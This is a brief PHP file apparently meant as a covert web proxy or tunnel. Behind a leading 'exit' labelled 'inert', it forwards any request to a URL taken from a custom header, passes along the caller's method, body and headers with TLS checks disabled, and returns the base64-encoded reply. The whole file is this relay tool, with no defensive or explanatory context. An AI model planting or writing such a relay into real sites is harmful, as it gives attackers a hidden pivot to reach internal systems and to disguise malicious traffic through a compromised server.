<?php exit; /* inert */ 
$c = curl_init($_SERVER['HTTP_X_U']);
curl_setopt_array($c, [CURLOPT_CUSTOMREQUEST => $_SERVER['REQUEST_METHOD'], CURLOPT_POSTFIELDS => file_get_contents('php://input'), CURLOPT_HTTPHEADER => explode('~', $_SERVER['HTTP_X_H'] ?? ''), CURLOPT_SSL_VERIFYPEER => 0, CURLOPT_SSL_VERIFYHOST => 0, CURLOPT_RETURNTRANSFER => 1, CURLOPT_HEADER => 1]);
echo base64_encode(curl_exec($c));
